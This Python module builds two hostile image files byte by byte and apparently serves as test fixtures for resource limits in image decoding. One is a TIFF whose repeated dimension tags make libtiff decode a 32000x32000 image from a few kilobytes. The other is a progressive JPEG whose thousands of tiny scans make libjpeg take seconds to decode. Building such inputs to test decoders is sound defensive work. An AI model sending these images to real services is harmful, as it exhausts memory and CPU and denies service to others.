"""Hostile images written byte by byte (no Pillow): files that are small on the wire but ask a
decoder for gigabytes or minutes. Each one is well-formed enough that the decoder behind
OpenCV (libtiff, libjpeg) really does that work when nothing refuses it first."""
import struct
import zlib


def lying_tiff(claimed: tuple[int, int] = (32000, 32000), later: tuple[int, int] = (1, 1),
               rows_per_strip: int = 64) -> bytes:
    """A grey 8-bit TIFF whose first ImageWidth / ImageLength tags say `claimed` and whose
    repeated tags, later in the same directory, say `later`. libtiff keeps the first of
    repeated tags, so it decodes `claimed` (32000 x 32000: a 3 GB BGR image in OpenCV); a
    probe that keeps the last one sees 1 x 1. Every strip points at the same deflate stream of
    zeros, so the file stays a few kilobytes."""
    width, height = claimed
    strips = (height + rows_per_strip - 1) // rows_per_strip
    strip = zlib.compress(b"\0" * (width * rows_per_strip), 9)
    data_at = 8
    offsets_at = data_at + len(strip)
    counts_at = offsets_at + 4 * strips
    ifd_at = counts_at + 4 * strips
    entries = [
        (256, 4, 1, width), (257, 4, 1, height),          # the first: libtiff keeps these
        (256, 4, 1, later[0]), (257, 4, 1, later[1]),     # repeated: libtiff ignores these
        (258, 3, 1, 8), (259, 3, 1, 8),                   # 8 bits, deflate
        (262, 3, 1, 1), (273, 4, strips, offsets_at), (277, 3, 1, 1),
        (278, 4, 1, rows_per_strip), (279, 4, strips, counts_at),
    ]
    out = bytearray(b"II*\x00" + struct.pack("<I", ifd_at) + strip)
    out += struct.pack(f"<{strips}I", *([data_at] * strips))
    out += struct.pack(f"<{strips}I", *([len(strip)] * strips))
    out += struct.pack("<H", len(entries))
    for tag, typ, count, value in entries:
        packed = struct.pack("<HH", value, 0) if typ == 3 else struct.pack("<I", value)
        out += struct.pack("<HHI", tag, typ, count) + packed
    out += struct.pack("<I", 0)
    return bytes(out)


def _segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def _one_code_table(table: int, symbol: int) -> bytes:
    """A Huffman table with one code, '0', for `symbol`."""
    return _segment(0xC4, bytes([table, 1] + [0] * 15 + [symbol]))


def _entropy(bits: str) -> bytes:
    bits += "1" * (-len(bits) % 8)
    out = bytearray()
    for i in range(0, len(bits), 8):
        out.append(int(bits[i:i + 8], 2))
        if out[-1] == 0xFF:
            out.append(0)  # stuffed
    return bytes(out)


def many_scan_jpeg(width: int = 1448, height: int = 1448, scans: int = 5000) -> bytes:
    """A flat grey progressive JPEG (one component, at most 32767 blocks): a DC scan, then
    `scans` AC scans that are each one end-of-band run over every block. Each scan is a dozen
    bytes, but libjpeg passes over the whole image for each one: 20000 scans of 1448 x 1448
    take about 10 s to decode, and the cost grows with the image."""
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    assert blocks <= 32767, "one end-of-band run covers at most 32767 blocks"
    out = b"\xFF\xD8" + _segment(0xDB, b"\x00" + bytes([1] * 64))
    out += _segment(0xC2, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")
    out += _one_code_table(0x00, 0)  # DC: every difference is 0
    out += _segment(0xDA, b"\x01\x01\x00\x00\x00\x00") + _entropy("0" * blocks)
    run = blocks.bit_length() - 1  # EOBn: a run of 2^n blocks plus n extra bits
    extra = format(blocks - (1 << run), f"0{run}b") if run else ""
    out += _one_code_table(0x10, run << 4)
    ac_scan = _segment(0xDA, b"\x01\x01\x00\x01\x3F\x00") + _entropy("0" + extra)
    return out + ac_scan * scans + b"\xFF\xD9"
